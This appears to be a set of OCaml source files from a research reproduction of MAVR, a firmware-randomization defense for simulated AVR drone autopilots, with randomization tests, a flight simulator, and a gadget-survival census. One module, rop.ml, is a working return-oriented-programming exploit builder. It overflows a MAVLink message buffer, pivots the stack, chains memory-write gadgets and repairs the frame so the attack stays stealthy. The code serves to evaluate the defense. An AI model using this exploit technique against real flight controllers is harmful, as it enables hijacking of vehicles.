    in [candidate] still matches [g.insns] exactly. *)
val gadget_survives : candidate:Mavr_obj.Image.t -> Mavr_core.Gadget.t -> bool

(** [payload_feasible ~reference ~gadgets candidate] — static verdict on
    whether a §IV payload built against [reference] (with the harvested
    [gadgets] addresses) would still find its gadgets in [candidate].
    [Error] names the first gadget whose decode diverges. *)
val payload_feasible :
  reference:Mavr_obj.Image.t ->
  gadgets:Mavr_core.Gadget.paper_gadgets ->
  Mavr_obj.Image.t ->
  (unit, string) result

type t = {
  layouts : int;  (** number of randomized layouts measured *)
  base_gadgets : int;  (** gadget count on the base image *)
  survivors_per_layout : int array;  (** per-layout surviving-gadget count *)
  mean_survival_rate : float;  (** mean survivors / base_gadgets, in [0,1] *)
  max_survival_rate : float;
  feasible_layouts : int;  (** layouts where {!payload_feasible} holds *)
}

(** [census ?max_len ~layouts image] randomizes [image] with seeds
    [1..layouts] and measures which of the base image's gadgets survive
    at their harvested addresses in each layout.  [feasible_layouts]
    counts layouts where the full paper payload remains feasible (0 when
    the base image has no locatable paper gadgets). *)
val census : ?max_len:int -> layouts:int -> Mavr_obj.Image.t -> t

val to_json : t -> Mavr_telemetry.Json.t
val pp : Format.formatter -> t -> unit
