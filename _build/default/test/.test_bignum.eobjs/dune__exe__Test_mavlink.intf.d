test/test_mavlink.mli:
