test/test_extensions.ml: Alcotest Char Float Format Helpers List Mavr_avr Mavr_core Mavr_firmware Mavr_mavlink Mavr_obj Printf QCheck String
