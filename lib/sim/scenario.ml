module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io
module Probes = Mavr_avr.Probes
module Image = Mavr_obj.Image
module Master = Mavr_core.Master

type defense = No_defense | Mavr of Master.config

(* Optional telemetry wiring: the application CPU's probe bundle owns the
   flight-recorder ring, and scenario milestones (uplink deliveries, GCS
   alarms) plus the master's flash-session spans share it so one dump
   tells the whole story in cycle order. *)
type tel = {
  probes : Probes.t;
  recorder : Mavr_telemetry.Recorder.t;
  ticks : Mavr_telemetry.Metrics.counter;
}

type t = {
  app : Cpu.t;
  master : Master.t option;
  gcs : Groundstation.t;
  sensors : Sensors.t;
  cycles_per_ms : int;
  faults : Mavr_fault.Injector.t option;
  uplink : string Queue.t;
  mutable dyn : Dynamics.state;
  mutable now_ms : float;
  mutable tel : tel option;
}

let create ?(cycles_per_ms = 2000) ?faults ~image defense =
  let app = Cpu.create () in
  let master =
    match defense with
    | No_defense ->
        Cpu.load_program app image.Image.code;
        None
    | Mavr config ->
        let m = Master.create ~config () in
        Master.provision m image;
        (* Arm the reflash-stream fault model before the first boot so
           the initial programming session is already under test. *)
        Option.iter (fun f -> Master.set_reflash_faults m (Mavr_fault.Injector.reflash f)) faults;
        Master.boot m ~app;
        Some m
  in
  {
    app;
    master;
    gcs = Groundstation.create ();
    sensors = Sensors.create ~seed:0xBADC0FFEE ();
    cycles_per_ms;
    faults;
    uplink = Queue.create ();
    dyn = Dynamics.initial;
    now_ms = 0.0;
    tel = None;
  }

let attach_telemetry ?(recorder_capacity = 256) t ~registry =
  let module M = Mavr_telemetry.Metrics in
  let probes = Probes.attach ~prefix:"app" ~recorder_capacity ~registry t.app in
  let recorder = Probes.recorder probes in
  M.sampled registry "sim.now_ms" (fun () -> int_of_float t.now_ms);
  Groundstation.attach_metrics t.gcs registry;
  (match t.master with
  | Some m -> Master.attach_telemetry m ~registry ~recorder
  | None -> ());
  (match t.faults with
  | Some f -> Mavr_fault.Injector.attach_metrics f registry
  | None -> ());
  t.tel <- Some { probes; recorder; ticks = M.counter registry "sim.ticks" };
  probes

let probes t = match t.tel with Some tel -> Some tel.probes | None -> None

let app t = t.app
let gcs t = t.gcs
let master t = t.master
let faults t = t.faults
let sensors t = t.sensors
let now_ms t = t.now_ms
let dynamics t = t.dyn

let uplink_channel faults = Option.bind faults Mavr_fault.Injector.uplink
let downlink_channel faults = Option.bind faults Mavr_fault.Injector.downlink

let record_event t name ~value =
  match t.tel with
  | None -> ()
  | Some tel ->
      Mavr_telemetry.Recorder.record tel.recorder ~cycle:(Cpu.cycles t.app) ~value name

let tick t =
  (* 1 ms of simulated time. *)
  (match t.tel with Some tel -> Mavr_telemetry.Metrics.incr tel.ticks | None -> ());
  let module Channel = Mavr_fault.Channel in
  let tick_no = int_of_float t.now_ms in
  t.dyn <- Dynamics.step t.dyn ~dt:0.001;
  Sensors.write_to_cpu (Sensors.sample t.sensors t.dyn) t.app;
  (* Uplink: at most one queued attacker frame enters the radio per
     tick; with a channel armed it is corrupted/jittered on the way, and
     earlier frames still in flight can land this tick too. *)
  let uplink_bytes =
    let frame = Queue.take_opt t.uplink in
    match uplink_channel t.faults with
    | None -> Option.value frame ~default:""
    | Some ch ->
        Option.iter (fun f -> Channel.push ch ~now:tick_no f) frame;
        Channel.due ch ~now:tick_no
  in
  if uplink_bytes <> "" then begin
    record_event t "sim.uplink_delivered" ~value:(String.length uplink_bytes);
    Cpu.uart_send t.app uplink_bytes
  end;
  ignore (Cpu.run_until_halt t.app ~max_cycles:t.cycles_per_ms);
  (* Drain this tick's telemetry BEFORE the watchdog check: a recovery
     reflash resets the application CPU, which clears the UART TX
     buffer — draining afterwards would destroy exactly the bytes the
     GCS needs to see at the moment of an attack. *)
  let tx = Cpu.uart_take_tx t.app in
  (match t.master with Some m -> ignore (Master.check_and_recover m ~app:t.app) | None -> ());
  t.now_ms <- t.now_ms +. 1.0;
  let downlink_bytes =
    match downlink_channel t.faults with
    | None -> tx
    | Some ch -> Channel.transmit ch ~now:(tick_no + 1) tx
  in
  Groundstation.feed t.gcs ~now_ms:t.now_ms downlink_bytes;
  let fresh = Groundstation.check t.gcs ~now_ms:t.now_ms in
  List.iter
    (fun a ->
      record_event t ("gcs.alarm." ^ Groundstation.alarm_key a)
        ~value:(int_of_float t.now_ms))
    fresh;
  (* Single-event upsets strike between ticks, after this tick's state
     has been delivered and judged. *)
  match t.faults with Some f -> Mavr_fault.Injector.seu_tick f t.app | None -> ()

let run t ~ms =
  let n = int_of_float (Float.ceil ms) in
  for _ = 1 to n do
    tick t
  done

let inject t frames =
  record_event t "sim.inject" ~value:(List.length frames);
  List.iter (fun f -> Queue.add f t.uplink) frames

type report = {
  duration_ms : float;
  gcs_frames : int;
  gcs_alarms : Groundstation.alarm list;
  master_detections : int;
  app_halted : bool;
  reflashes : int;
}

let report t =
  {
    duration_ms = t.now_ms;
    gcs_frames = Groundstation.frames_received t.gcs;
    gcs_alarms = Groundstation.alarms t.gcs;
    master_detections =
      (match t.master with Some m -> Master.attacks_detected m | None -> 0);
    app_halted = Cpu.halted t.app <> None;
    reflashes = (match t.master with Some m -> Master.reflashes m | None -> 0);
  }

let pp_report fmt r =
  Format.fprintf fmt
    "@[<v>%.0f ms simulated; %d frames at GCS; %d GCS alarms; %d master detections; %d reflashes; app %s@]"
    r.duration_ms r.gcs_frames (List.length r.gcs_alarms) r.master_detections r.reflashes
    (if r.app_halted then "HALTED" else "running");
  List.iter (fun a -> Format.fprintf fmt "@,  alarm: %a" Groundstation.pp_alarm a) r.gcs_alarms
