module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module Shuffle = Mavr_core.Shuffle
module Patch = Mavr_core.Patch
module Randomize = Mavr_core.Randomize
module Rng = Mavr_prng.Splitmix

let image () = (Helpers.build_mavr ()).image

let test_shuffle_is_permutation () =
  let img = image () in
  let s = Shuffle.draw ~rng:(Rng.create ~seed:1) img in
  let n = Image.function_count img in
  let seen = Array.make n false in
  Array.iter
    (fun i ->
      Alcotest.(check bool) "index in range" true (i >= 0 && i < n);
      Alcotest.(check bool) "no duplicate" false seen.(i);
      seen.(i) <- true)
    s.order

let test_layout_covers_text () =
  let img = image () in
  let s = Shuffle.draw ~rng:(Rng.create ~seed:2) img in
  let syms = Array.of_list img.Image.symbols in
  let spans =
    List.sort compare
      (Array.to_list (Array.mapi (fun i (sym : Image.symbol) -> (s.new_addr.(i), sym.size)) syms))
  in
  let cursor = ref img.text_start in
  List.iter
    (fun (addr, size) ->
      Alcotest.(check int) "blocks back to back" !cursor addr;
      cursor := addr + size)
    spans;
  Alcotest.(check int) "ends at text_end" img.text_end !cursor

let test_identity_shuffle () =
  let img = image () in
  let s = Shuffle.identity img in
  Alcotest.(check bool) "is identity" true (Shuffle.is_identity s);
  let img' = Patch.apply img s in
  Alcotest.(check string) "identity patch is byte-identical" img.Image.code img'.Image.code

let test_map_addr () =
  let img = image () in
  let s = Shuffle.draw ~rng:(Rng.create ~seed:3) img in
  let sym = List.nth img.Image.symbols 7 in
  let mapped_start = Shuffle.map_addr img s sym.addr in
  let mapped_mid = Shuffle.map_addr img s (sym.addr + 4) in
  Alcotest.(check int) "offset preserved" (mapped_start + 4) mapped_mid;
  Alcotest.(check int) "outside text unchanged" 10 (Shuffle.map_addr img s 10)

let test_of_order_validation () =
  let img = image () in
  let n = Image.function_count img in
  (match Shuffle.of_order img (Array.make n 0) with
  | _ -> Alcotest.fail "duplicate order accepted"
  | exception Invalid_argument _ -> ());
  match Shuffle.of_order img [| 0 |] with
  | _ -> Alcotest.fail "short order accepted"
  | exception Invalid_argument _ -> ()

let test_structure_preserved () =
  let img = image () in
  for seed = 1 to 5 do
    let r = Randomize.randomize ~seed img in
    Helpers.assert_ok (Randomize.verify_structure ~original:img ~randomized:r)
  done

let test_layout_distance () =
  let img = image () in
  let r = Randomize.randomize ~seed:9 img in
  let d = Randomize.layout_distance img r in
  Alcotest.(check bool) "most functions moved" true (d > Image.function_count img * 3 / 4);
  Alcotest.(check int) "distance to self is 0" 0 (Randomize.layout_distance img img)

let test_different_seeds_different_layouts () =
  let img = image () in
  let a = Randomize.randomize ~seed:1 img in
  let b = Randomize.randomize ~seed:2 img in
  Alcotest.(check bool) "layouts differ" true (a.Image.code <> b.Image.code)

let test_same_seed_same_layout () =
  let img = image () in
  let a = Randomize.randomize ~seed:4 img in
  let b = Randomize.randomize ~seed:4 img in
  Alcotest.(check string) "deterministic" a.Image.code b.Image.code

let observe image ~cycles =
  let cpu = Helpers.boot image in
  let benign =
    Mavr_mavlink.Frame.encode
      { Mavr_mavlink.Frame.seq = 3; sysid = 255; compid = 0; msgid = 23;
        payload = "\x31\x32\x33\x00" }
  in
  Cpu.uart_send cpu benign;
  let r = Cpu.run cpu ~max_cycles:cycles in
  ( Helpers.run_result_to_string r,
    Cpu.uart_take_tx cpu,
    Cpu.watchdog_feeds cpu,
    Cpu.stack_slice cpu ~pos:0x480 ~len:0x300 )

let test_behavioural_equivalence () =
  (* The heart of the defense's correctness: randomized firmware is
     observationally identical — telemetry bytes, watchdog feeds, SRAM
     state — including while processing uplink messages. *)
  let img = image () in
  let reference = observe img ~cycles:500_000 in
  for seed = 11 to 18 do
    let r = Randomize.randomize ~seed img in
    let got = observe r ~cycles:500_000 in
    Alcotest.(check bool) (Printf.sprintf "seed %d equivalent" seed) true (got = reference)
  done

let test_relaxed_image_refused () =
  let stock = Helpers.build_stock () in
  match Patch.check_randomizable stock.image with
  | Error _ -> ()
  | Ok () -> Alcotest.fail "relaxed image must be refused"

let test_mavr_image_accepted () =
  Helpers.assert_ok (Patch.check_randomizable (image ()))

let test_funptrs_remapped () =
  let img = image () in
  let s = Shuffle.draw ~rng:(Rng.create ~seed:21) img in
  let img' = Patch.apply img s in
  List.iter
    (fun loc ->
      let w = Char.code img.Image.code.[loc] lor (Char.code img.Image.code.[loc + 1] lsl 8) in
      let w' = Char.code img'.Image.code.[loc] lor (Char.code img'.Image.code.[loc + 1] lsl 8) in
      let expected = Shuffle.map_addr img s (w * 2) / 2 in
      Alcotest.(check int) (Printf.sprintf "funptr at 0x%x" loc) expected w')
    img.funptr_locs

let test_symbols_follow_blocks () =
  (* Each function's bytes at its new address still start with the same
     first instruction word unless that word is a patched call/jmp. *)
  let img = image () in
  let r = Randomize.randomize ~seed:31 img in
  List.iter
    (fun (s : Image.symbol) ->
      let s' = List.find (fun (x : Image.symbol) -> x.name = s.name) r.Image.symbols in
      Alcotest.(check int) (s.name ^ " size preserved") s.size s'.size)
    img.symbols

let test_double_randomization () =
  (* Randomizing a randomized image must still be behaviourally sound —
     the master re-randomizes after every detected attack (§V-C). *)
  let img = image () in
  let r1 = Randomize.randomize ~seed:41 img in
  let r2 = Randomize.randomize ~seed:42 r1 in
  Helpers.assert_ok (Randomize.verify_structure ~original:img ~randomized:r2);
  let reference = observe img ~cycles:300_000 in
  Alcotest.(check bool) "twice-randomized equivalent" true (observe r2 ~cycles:300_000 = reference)

(* ---- streaming randomization (§VI-B3) ---- *)

let test_streaming_matches_batch () =
  let img = image () in
  for seed = 1 to 6 do
    let batch = Randomize.randomize ~seed img in
    let streamed, stats = Mavr_core.Stream_patch.randomize_image ~seed img ~page_bytes:256 in
    Alcotest.(check bool)
      (Printf.sprintf "seed %d byte-identical" seed)
      true
      (streamed.Image.code = batch.Image.code);
    Alcotest.(check int) "pages emitted"
      ((Image.size img + 255) / 256)
      stats.pages_emitted;
    Alcotest.(check bool) "read at least the whole image" true (stats.bytes_read >= Image.size img)
  done

let test_streaming_symbols_match () =
  let img = image () in
  let batch = Randomize.randomize ~seed:9 img in
  let streamed, _ = Mavr_core.Stream_patch.randomize_image ~seed:9 img ~page_bytes:256 in
  List.iter2
    (fun (a : Image.symbol) (b : Image.symbol) ->
      Alcotest.(check string) "name" a.name b.name;
      Alcotest.(check int) "addr" a.addr b.addr)
    batch.Image.symbols streamed.Image.symbols

let test_streaming_fits_master_sram () =
  (* The §VI-B3 memory claim: randomization of every profile fits the
     ATmega1284P's 16 KB SRAM. *)
  let sram = Mavr_avr.Device.atmega1284p.sram_bytes in
  List.iter
    (fun profile ->
      let b = Mavr_firmware.Build.build profile Mavr_firmware.Profile.mavr in
      let _, stats = Mavr_core.Stream_patch.randomize_image ~seed:1 b.image ~page_bytes:256 in
      if stats.peak_working_set >= sram then
        Alcotest.failf "%s: working set %d B exceeds %d B SRAM" profile.Mavr_firmware.Profile.name
          stats.peak_working_set sram)
    Mavr_firmware.Profile.all

let test_streaming_refuses_relaxed () =
  let stock = Helpers.build_stock () in
  match Mavr_core.Stream_patch.randomize_image ~seed:1 stock.image ~page_bytes:256 with
  | _ -> Alcotest.fail "relaxed image must be refused"
  | exception Patch.Unpatchable _ -> ()

let prop_random_seed_equivalence =
  QCheck.Test.make ~name:"random seeds preserve behaviour" ~count:12
    QCheck.(int_range 100 1_000_000)
    (fun seed ->
      let img = image () in
      let r = Randomize.randomize ~seed img in
      observe r ~cycles:200_000 = observe img ~cycles:200_000)

let () =
  Alcotest.run "randomize"
    [
      ( "shuffle",
        [
          Alcotest.test_case "permutation" `Quick test_shuffle_is_permutation;
          Alcotest.test_case "layout covers text" `Quick test_layout_covers_text;
          Alcotest.test_case "identity" `Quick test_identity_shuffle;
          Alcotest.test_case "map_addr" `Quick test_map_addr;
          Alcotest.test_case "of_order validation" `Quick test_of_order_validation;
        ] );
      ( "randomize",
        [
          Alcotest.test_case "structure preserved" `Quick test_structure_preserved;
          Alcotest.test_case "layout distance" `Quick test_layout_distance;
          Alcotest.test_case "seeds differ" `Quick test_different_seeds_different_layouts;
          Alcotest.test_case "deterministic per seed" `Quick test_same_seed_same_layout;
          Alcotest.test_case "behavioural equivalence" `Slow test_behavioural_equivalence;
          Alcotest.test_case "relaxed image refused" `Quick test_relaxed_image_refused;
          Alcotest.test_case "MAVR image accepted" `Quick test_mavr_image_accepted;
          Alcotest.test_case "function pointers remapped" `Quick test_funptrs_remapped;
          Alcotest.test_case "symbol sizes preserved" `Quick test_symbols_follow_blocks;
          Alcotest.test_case "double randomization" `Quick test_double_randomization;
        ] );
      ( "streaming",
        [
          Alcotest.test_case "matches batch patcher" `Quick test_streaming_matches_batch;
          Alcotest.test_case "symbols match" `Quick test_streaming_symbols_match;
          Alcotest.test_case "fits master SRAM (all profiles)" `Slow test_streaming_fits_master_sram;
          Alcotest.test_case "refuses relaxed images" `Quick test_streaming_refuses_relaxed;
        ] );
      ("properties", [ Helpers.qtest prop_random_seed_equivalence ]);
    ]
