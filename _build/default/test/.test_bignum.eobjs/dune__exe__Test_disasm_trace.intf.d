test/test_disasm_trace.mli:
