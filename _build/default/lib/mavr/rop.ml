module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module Layout = Mavr_firmware.Layout
module Frame = Mavr_mavlink.Frame

type target_info = {
  image : Image.t;
  gadgets : Gadget.paper_gadgets;
  stage_addr : int;
  vuln_msgid : int;
  staging_msgid : int;
}

type observation = { s0 : int; saved_bytes : string; regs : int array; gyro_addr : int }

type write = { base : int; bytes : int * int * int }

(* Geometry of the vulnerable frame (see the .mli): buffer byte i lands at
   s0 - 71 + i; bytes 66..68 are the saved registers, 69..71 the return
   address.  The trigger payload stops exactly at the return address. *)
let trigger_len = 72
let saved_regs_off = 66
let ret_off = 69

let analyze (build : Mavr_firmware.Build.t) =
  match Gadget.locate_paper_gadgets build.image with
  | Some gadgets ->
      {
        image = build.image;
        gadgets;
        stage_addr = Layout.stage;
        vuln_msgid = 23;
        staging_msgid = 76;
      }
  | None -> failwith "Rop.analyze: stk_move / write_mem gadgets not found in binary"

let benign_param_set =
  Frame.encode
    { Frame.seq = 1; sysid = 255; compid = 0; msgid = 23; payload = String.make 16 '\x01' }

let observe ti =
  let cpu = Cpu.create () in
  Cpu.load_program cpu ti.image.Image.code;
  (* Let the firmware boot, then deliver a benign PARAM_SET and break at
     the frame-teardown gadget. *)
  (match Cpu.run cpu ~max_cycles:50_000 with `Budget_exhausted -> () | `Halted _ -> ());
  Cpu.uart_send cpu benign_param_set;
  let target_pc = ti.gadgets.Gadget.stk_move in
  (match
     Cpu.run_until cpu ~max_cycles:2_000_000 (fun c -> Cpu.pc_byte_addr c = target_pc)
   with
  | `Pred -> ()
  | `Halted _ | `Budget_exhausted -> failwith "Rop.observe: dry run never reached the teardown");
  (* At the teardown Y has been restored to s0 - 6. *)
  let y = Cpu.reg cpu 28 lor (Cpu.reg cpu 29 lsl 8) in
  let s0 = y + 6 in
  {
    s0;
    saved_bytes = Cpu.stack_slice cpu ~pos:(s0 - 5) ~len:6;
    regs = Array.init 32 (Cpu.reg cpu);
    gyro_addr = Cpu.device cpu |> fun d -> d.Mavr_avr.Device.io_base + Mavr_avr.Device.Io.gyro_lo;
  }

let write_u16 obs ~addr ~value ~neighbour =
  ignore obs;
  { base = addr - 1; bytes = (value land 0xFF, (value lsr 8) land 0xFF, neighbour) }

(* ---- chain assembly ------------------------------------------------- *)

let add_ret buf byte_addr =
  (* Return addresses sit big-endian on the stack (MSB at the lower
     address); ret consumes the lower address first. *)
  let w = byte_addr / 2 in
  Buffer.add_char buf (Char.chr ((w lsr 16) land 0xFF));
  Buffer.add_char buf (Char.chr ((w lsr 8) land 0xFF));
  Buffer.add_char buf (Char.chr (w land 0xFF))

(* One 16-byte register set in ps_pops order:
   r29 r28 r17 r16 r15 r14 r13 r12 r11 r10 r9 r8 r7 r6 r5 r4. *)
let add_set buf (obs : observation) ~y ~stores =
  let b1, b2, b3 = stores in
  let reg r =
    match r with
    | 29 -> (y lsr 8) land 0xFF
    | 28 -> y land 0xFF
    | 7 -> b3
    | 6 -> b2
    | 5 -> b1
    | r -> obs.regs.(r)
  in
  List.iter
    (fun r -> Buffer.add_char buf (Char.chr (reg r)))
    [ 29; 28; 17; 16; 15; 14; 13; 12; 11; 10; 9; 8; 7; 6; 5; 4 ]

(* The universal chain: enter via a stk_move pivot (3 junk pop bytes),
   load the first set through the gadget's pop half, then one
   write_mem round per write; the final set re-arms r28:r29 for the
   closing pivot to [final_pivot] (usually s0 - 6, the clean return). *)
let chain_bytes ti (obs : observation) ~writes ~final_pivot =
  let buf = Buffer.create 256 in
  Buffer.add_string buf "\x00\x00\x00" (* pivot's own pops: r28, r29, r16 *);
  add_ret buf ti.gadgets.Gadget.write_mem_pops;
  let rec rounds = function
    | [] -> ()
    | { base; bytes } :: rest ->
        add_set buf obs ~y:base ~stores:bytes;
        add_ret buf ti.gadgets.Gadget.write_mem;
        rounds rest
  in
  rounds writes;
  (* Final set: registers restored to their originals, Y aimed at the
     closing pivot target. *)
  add_set buf obs ~y:final_pivot
    ~stores:(obs.regs.(5), obs.regs.(6), obs.regs.(7));
  add_ret buf ti.gadgets.Gadget.stk_move;
  Buffer.contents buf

(* The two repair writes that make a return clean: restore the saved
   registers (s0-5..s0-3) and the smashed return address (s0-2..s0). *)
let repair_writes (obs : observation) =
  let b i = Char.code obs.saved_bytes.[i] in
  [
    { base = obs.s0 - 6; bytes = (b 0, b 1, b 2) };
    { base = obs.s0 - 3; bytes = (b 3, b 4, b 5) };
  ]

let frame ~msgid payload =
  Frame.encode { Frame.seq = 0; sysid = 255; compid = 0; msgid; payload }

(* Trigger payload: padding up to the saved registers, then the pivot
   values and the stk_move gadget's address over the return address. *)
let trigger_payload ti ~pivot =
  let buf = Buffer.create trigger_len in
  Buffer.add_string buf (String.make saved_regs_off '\xA5');
  Buffer.add_char buf (Char.chr (pivot land 0xFF)) (* popped into r28 *);
  Buffer.add_char buf (Char.chr ((pivot lsr 8) land 0xFF)) (* r29 *);
  Buffer.add_char buf '\x00' (* r16 *);
  add_ret buf ti.gadgets.Gadget.stk_move;
  let p = Buffer.contents buf in
  assert (String.length p = trigger_len && ret_off + 3 = trigger_len);
  p

(* Staging frame: a benign message whose payload fills STAGE verbatim. *)
let staging_frame ti ~stage_image =
  frame ~msgid:ti.staging_msgid stage_image

(* A full stealthy volley: stage the chain at STAGE[72..], then trigger.
   The trigger frame is exactly 72 bytes, so the victim's callers are
   untouched; the chain runs inside STAGE. *)
let volley ti obs ~writes ~final_pivot =
  let chain = chain_bytes ti obs ~writes ~final_pivot in
  if trigger_len + String.length chain > Layout.stage_len then
    invalid_arg "Rop: chain too long for the staging buffer";
  let stage_image = String.make trigger_len '\x00' ^ chain in
  let pivot = ti.stage_addr + trigger_len - 1 in
  [ staging_frame ti ~stage_image; frame ~msgid:ti.vuln_msgid (trigger_payload ti ~pivot) ]

let v2_stealthy ti obs ~writes =
  if List.length writes > 6 then invalid_arg "Rop.v2_stealthy: at most 6 writes per volley";
  volley ti obs ~writes:(writes @ repair_writes obs) ~final_pivot:(obs.s0 - 6)

(* V1: no pivot, no repair.  The chain is laid out directly behind the
   smashed return address, consuming (and destroying) the callers'
   stack; after the write the CPU returns into garbage. *)
let v1_basic ti obs ~writes =
  let buf = Buffer.create 128 in
  Buffer.add_string buf (String.make saved_regs_off '\xA5');
  Buffer.add_string buf "\x00\x00\x00" (* saved r28, r29, r16 slots *);
  add_ret buf ti.gadgets.Gadget.write_mem_pops;
  List.iter
    (fun { base; bytes } ->
      add_set buf obs ~y:base ~stores:bytes;
      add_ret buf ti.gadgets.Gadget.write_mem)
    writes;
  (* One more set for the last gadget's pops, then a wild return. *)
  add_set buf obs ~y:0 ~stores:(0, 0, 0);
  add_ret buf (ti.image.Image.text_end + 256);
  [ frame ~msgid:ti.vuln_msgid (Buffer.contents buf) ]

(* A wrong-guess probe: the overwritten return address points past the
   programmed image, so the PC leaves valid flash immediately. *)
let crash_probe ti =
  let buf = Buffer.create trigger_len in
  Buffer.add_string buf (String.make saved_regs_off '\xA5');
  Buffer.add_string buf "\x00\x00\x00";
  add_ret buf (String.length ti.image.Image.code + 0x1000);
  [ frame ~msgid:ti.vuln_msgid (Buffer.contents buf) ]

(* ---- V3: the trampoline --------------------------------------------- *)

(* Stage arbitrary data into free memory, 3 bytes per write, up to 6
   writes (18 bytes) per clean-return volley. *)
let v3_stage ti obs ~data ~dest =
  let n = String.length data in
  let writes = ref [] in
  let pos = ref 0 in
  while !pos < n do
    let b i = if !pos + i < n then Char.code data.[!pos + i] else 0 in
    writes := { base = dest + !pos - 1; bytes = (b 0, b 1, b 2) } :: !writes;
    pos := !pos + 3
  done;
  let rec volleys acc = function
    | [] -> List.rev acc
    | ws ->
        let batch, rest =
          let rec take k = function
            | x :: tl when k > 0 ->
                let b, r = take (k - 1) tl in
                (x :: b, r)
            | l -> ([], l)
          in
          take 6 ws
        in
        volleys (v2_stealthy ti obs ~writes:batch :: acc) rest
  in
  List.concat (volleys [] (List.rev !writes))

let big_chain_bytes ti obs ~writes =
  chain_bytes ti obs ~writes:(writes @ repair_writes obs) ~final_pivot:(obs.s0 - 6)

(* Stage a long chain at [chain_dest], then fire a trigger whose final
   pivot lands in the staged chain instead of returning home; the staged
   chain performs all writes, repairs the frame and pivots home itself. *)
let v3_execute ti obs ~chain_dest ~writes =
  let big = big_chain_bytes ti obs ~writes in
  (* The staged chain is entered by a stk_move pivot to chain_dest - 1;
     its first 3 bytes feed that pivot's pops. *)
  let stage_frames = v3_stage ti obs ~data:big ~dest:chain_dest in
  let fire =
    (* A volley with no user writes whose final pivot enters the big chain. *)
    volley ti obs ~writes:(repair_writes obs) ~final_pivot:(chain_dest - 1)
  in
  stage_frames @ fire
