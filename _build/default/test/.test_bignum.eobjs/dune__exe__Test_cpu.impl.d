test/test_cpu.ml: Alcotest Char Helpers List Mavr_avr Printf String
