(** Deterministic parallel map-reduce over seeded Monte Carlo tasks.

    The paper's evaluation is Monte Carlo at heart — survival across K
    randomized layouts (§VII-A), expected brute-force probes over layout
    permutations (§V-D), detection rates across attack/defense grids.
    This engine scales the trial count across OCaml 5 domains while
    keeping every output {e bit-identical for any [jobs] value,
    including 1}:

    - per-task PRNG seeds are derived up front from a single root seed by
      {!Mavr_prng.Splitmix} splitting ({!task_seeds}), so no task's
      randomness depends on scheduling;
    - results land in an index-addressed array, so no task's position
      depends on completion order;
    - {!map_reduce} folds that array in index order.

    Tasks must not share mutable state; give each worker its own
    {!Mavr_telemetry.Metrics} registry and combine with
    [Metrics.merge] (commutative) at the join. *)

(** [task_seeds ~seed ~tasks] — the per-task seed schedule: [tasks]
    independent 63-bit seeds split off the root [seed].  Exposed so
    callers that need the raw seeds (e.g. [Randomize.randomize ~seed])
    use exactly the schedule {!map} would. *)
val task_seeds : seed:int -> tasks:int -> int array

(** [iter_indices ?pool ?jobs ?progress ~seeds ~indices body] runs
    [body ~index ~rng] for each global index in [indices] — the
    resumable primitive under {!map}.  [seeds] is the {e full} schedule
    from {!task_seeds}; [indices] selects the subset that runs this
    round (a resumed campaign passes its uncompleted frontier, an
    early-stopping driver one batch per open cell).  [rng] is always
    seeded from [seeds.(index)], so a task's result is independent of
    which round, process or domain ran it.  With [?progress],
    [Array.length indices] is added to the total up front.
    @raise Invalid_argument if an index falls outside the schedule.
    @raise Pool.Task_failed when a task raises (lowest index). *)
val iter_indices :
  ?pool:Pool.t ->
  ?jobs:int ->
  ?progress:Progress.t ->
  seeds:int array ->
  indices:int array ->
  (index:int -> rng:Mavr_prng.Splitmix.t -> unit) ->
  unit

(** [map ?pool ?jobs ~seed ~tasks f] runs [f ~index ~rng] for each index
    in [0 .. tasks-1] and returns the results in index order.  [rng] is a
    private generator seeded from the task's split seed.  With [?pool]
    the caller's pool is reused (its [jobs] applies and [?jobs] is
    ignored); otherwise a temporary pool of [jobs] domains is created.

    Observability hooks (both default off, and neither perturbs the
    computation): with [?tracer], each task body runs inside a span
    named ["task"] (args: index, split seed) on its own lane,
    [task_name index] (default ["task-NNNN"]), sorted by index — so
    the timing-stripped trace content is identical for any [jobs].
    With [?progress], [tasks] is added to the stream's total up front
    and {!Progress.task_done} fires after every completion.
    @raise Pool.Task_failed when a task raises (lowest index). *)
val map :
  ?pool:Pool.t ->
  ?jobs:int ->
  ?tracer:Mavr_telemetry.Span.tracer ->
  ?task_name:(int -> string) ->
  ?progress:Progress.t ->
  seed:int ->
  tasks:int ->
  (index:int -> rng:Mavr_prng.Splitmix.t -> 'a) ->
  'a array

(** [map_reduce ... ~map:f ~reduce init] — {!map}, then a sequential
    index-order fold from [init], so the reduction is deterministic even
    for non-commutative [reduce]. *)
val map_reduce :
  ?pool:Pool.t ->
  ?jobs:int ->
  ?tracer:Mavr_telemetry.Span.tracer ->
  ?task_name:(int -> string) ->
  ?progress:Progress.t ->
  seed:int ->
  tasks:int ->
  map:(index:int -> rng:Mavr_prng.Splitmix.t -> 'a) ->
  reduce:('b -> 'a -> 'b) ->
  'b ->
  'b
