module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module Symtab = Mavr_obj.Symtab
module Flash = Mavr_avr.Device.External_flash
module Rng = Mavr_prng.Splitmix

let src = Logs.Src.create "mavr.master" ~doc:"MAVR master processor"

module Log = (val Logs.src_log src : Logs.LOG)

type config = {
  link : Serial.t;
  randomize_every_boots : int;
  watchdog_window_cycles : int;
  seed : int;
}

let default_config =
  {
    link = Serial.prototype;
    randomize_every_boots = 1;
    watchdog_window_cycles = 60_000;
    seed = 0xD15EA5E;
  }

type event =
  | Booted of { boot : int; randomized : bool; overhead_ms : float }
  | Attack_detected of { at_cycles : int; reason : string }
  | Reflashed of { generation : int; overhead_ms : float }

let pp_event fmt = function
  | Booted { boot; randomized; overhead_ms } ->
      Format.fprintf fmt "boot #%d (%s, %.0f ms)" boot
        (if randomized then "randomized" else "cached layout")
        overhead_ms
  | Attack_detected { at_cycles; reason } ->
      Format.fprintf fmt "failed attack detected at cycle %d (%s)" at_cycles reason
  | Reflashed { generation; overhead_ms } ->
      Format.fprintf fmt "re-randomized: generation %d (%.0f ms)" generation overhead_ms

type t = {
  config : config;
  ext_flash : Flash.t;
  rng : Rng.t;
  mutable boots : int;
  mutable reflashes : int;
  mutable last_overhead_ms : float;
  mutable current : Image.t option;
  mutable events : event list;
  mutable attacks : int;
  mutable pages_programmed : int;
  mutable peak_ws : int;
}

let create ?(config = default_config) () =
  {
    config;
    ext_flash = Flash.create ~bytes:(1 lsl 20);
    rng = Rng.create ~seed:config.seed;
    boots = 0;
    reflashes = 0;
    last_overhead_ms = 0.0;
    current = None;
